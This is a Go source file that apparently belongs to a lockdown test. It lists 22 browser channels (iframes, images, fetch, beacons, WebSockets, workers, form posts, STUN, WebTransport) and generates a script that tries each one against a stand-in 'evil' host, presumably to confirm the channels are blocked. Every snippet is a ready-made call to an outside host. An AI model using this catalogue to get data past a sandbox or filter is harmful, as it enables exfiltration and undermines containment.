// SPDX-License-Identifier: Apache-2.0

package lockdown

import (
	"fmt"
	"strings"
)

// Channels are the ways by which a page can send something to a host, each with a forbidden host of its own: the n-th, from
// 1, is HOST in its script.
var Channels = []struct{ Name, Script string }{
	{"navigation", ``}, // last, see channelScript
	{"frame", `add('iframe', {src: 'http://HOST/', style: 'width:1px;height:1px;border:0'})`},
	{"redirected frame", `add('iframe', {src: '/x/redirect?to=http://HOST/', style: 'width:1px;height:1px;border:0'})`},
	{"img", `new Image().src = 'http://HOST/'`},
	{"css", `add('link', {rel: 'stylesheet', href: 'http://HOST/x.css'})`},
	{"prefetch", `add('link', {rel: 'prefetch', href: 'http://HOST/'})`},
	{"fetch", `fetch('http://HOST/', {mode: 'no-cors'}).catch(() => {})`},
	{"redirected fetch", `fetch('/x/redirect?to=http://HOST/', {mode: 'no-cors'}).catch(() => {})`},
	{"beacon", `navigator.sendBeacon('http://HOST/', 'x')`},
	{"beacon at the end", `addEventListener('pagehide', () => navigator.sendBeacon('http://HOST/', 'x'))`},
	{"events", `new EventSource('http://HOST/')`},
	{"socket", `new WebSocket('ws://HOST/')`},
	{"worker", `new Worker('/x/worker.js?host=HOST')`},
	{"socket of a worker", `new Worker('/x/socket.js?host=HOST')`},
	{"shared worker", `new SharedWorker('/x/worker.js?host=HOST')`},
	{"service worker", `navigator.serviceWorker.register('/x/sw.js?http://HOST').catch(() => {})`},
	{"form", `const i = add('iframe', {name: 'form', style: 'width:1px;height:1px;border:0'}); add('form', {action: 'http://HOST/', method: 'post', target: 'form'}).submit()`},
	{"ping", `add('a', {href: '#', ping: 'http://HOST/'}).click()`},
	{"preconnect", `add('link', {rel: 'preconnect', href: 'http://HOST/'})`},
	{"dns-prefetch", `add('link', {rel: 'dns-prefetch', href: 'http://HOST/'})`},
	{"STUN", `const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:3478'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))`},
	{"WebTransport", `const t = new WebTransport('https://HOST/'); t.ready.catch(() => {}); t.closed.catch(() => {})`},
}

// Numbers of the channels that are no connections: a question for a name, and datagrams.
const (
	prefetchChannel  = 20
	stunChannel      = 21
	transportChannel = 22
)

// channelScript tries all of them from one page; the page itself goes away in the end.
func channelScript() string {
	var b strings.Builder
	for i, c := range Channels {
		host := fmt.Sprintf("c%d%s", i+1, evil)
		fmt.Fprintf(&b, "try { (() => { %s })() } catch (e) {}\n", strings.ReplaceAll(c.Script, "HOST", host))
	}
	fmt.Fprintf(&b, "setTimeout(() => { location = 'http://c1%s/' }, 2500)", evil)
	return b.String()
}
